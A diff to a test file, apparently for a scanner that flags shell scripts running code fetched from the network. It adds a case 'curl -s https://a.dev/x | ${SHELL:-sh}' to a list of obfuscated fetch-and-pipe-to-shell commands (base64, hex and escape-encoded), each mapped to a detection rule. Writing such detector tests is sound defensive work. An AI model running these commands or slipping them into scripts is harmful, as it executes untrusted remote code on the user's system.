@@ -67,6 +67,7 @@ def test_secrets_that_are_used(tmp_path: Path, script: str) -> None:
         (f'bash <<< "$(echo {CODE} | base64 -d)"', "A13"),
         ("echo " + b"curl https://a.dev | sh".hex() + " | xxd -r -p | sh", "A13"),
         ("eval $'\\x63url -s https://a.dev/x | sh'", "A10"),
+        ("curl -s https://a.dev/x | ${SHELL:-sh}", "A10"),
     ],
 )
 def test_code_from_elsewhere(tmp_path: Path, script: str, rule: str) -> None:
